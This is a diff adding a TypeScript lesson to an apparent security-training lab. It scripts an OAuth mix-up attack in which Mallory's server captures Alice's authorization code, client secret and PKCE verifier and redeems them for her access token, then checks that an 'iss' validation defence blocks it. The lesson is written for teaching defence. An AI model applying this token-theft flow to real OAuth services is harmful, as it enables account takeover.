@@ -1,0 +1,90 @@
+import { chain } from '../../checks/check.ts';
+import { lessonCode } from '../../lesson.ts';
+import { labAppIssuer, labSecondIssuer, resultOn } from '../lab-app.ts';
+
+export const lesson = lessonCode({
+  issuer: labAppIssuer,
+  lab: {
+    second: labSecondIssuer,
+    weak: { unprotected: ['iss'] },
+    steps: [
+      {
+        id: 'begin',
+        by: 'alice',
+        async run(hands) {
+          const authorize = `${new URL(hands.second).pathname}/oauth2/authorize`;
+          const page = await hands.alice.open('/demo-app');
+          const { url } = await hands.alice.submitUntil(page, 'app-sign-in-second', authorize);
+          hands.keep('request', url.search);
+          hands.see('The application sends Alice to the server of Mallory', url.href);
+        },
+      },
+      {
+        id: 'forward',
+        by: 'mallory',
+        async run(hands) {
+          const link = `${hands.issuer}/oauth2/authorize${hands.kept('request')}`;
+          hands.keep('link', link);
+          hands.see('The server of Mallory sends Alice on', link);
+        },
+      },
+      {
+        id: 'login',
+        by: 'alice',
+        async run(hands) {
+          const login = await hands.alice.open(hands.kept('link'));
+          hands.see('The application', resultOn(await hands.alice.submit(login, 'login-user-alice')));
+        },
+      },
+      {
+        id: 'log',
+        by: 'mallory',
+        async run(hands) {
+          for (const parameter of ['code', 'client_secret', 'code_verifier']) {
+            hands.keep(parameter, hands.received(parameter));
+            hands.see(`${parameter} in the log of Mallory`, hands.kept(parameter));
+          }
+        },
+      },
+      {
+        id: 'redeem',
+        by: 'mallory',
+        async run(hands) {
+          const form = {
+            grant_type: 'authorization_code',
+            client_id: 'lab-app',
+            redirect_uri: `${hands.issuer}/demo-app/callback`,
+            code: hands.kept('code'),
+            client_secret: hands.kept('client_secret'),
+            code_verifier: hands.kept('code_verifier'),
+          };
+          const { access_token = '', error } = (await hands.mallory.call('/oauth2/token', { form })).body;
+          hands.see('Answer', error ?? `access token of Alice ${access_token.slice(0, 24)}…`);
+        },
+      },
+    ],
+  },
+  tasks: [
+    {
+      id: 'attack',
+      checks: [
+        chain(
+          { type: 'lab.switched', isDefended: false },
+          { type: 'code.issued', sub: 'alice', client_id: 'lab-app', as: 'code' },
+          { type: 'app.code_sent', issuer: { includes: '-second' } },
+          { type: 'token.issued', tokenType: 'access', parentTokenId: { $: 'code.tokenId' } },
+        ),
+      ],
+    },
+    {
+      id: 'again',
+      checks: [
+        chain(
+          { type: 'lab.switched', isDefended: true },
+          { type: 'code.issued', sub: 'alice', client_id: 'lab-app' },
+          { type: 'app.refused', client_id: 'lab-app', why: 'iss' },
+        ),
+      ],
+    },
+  ],
+});
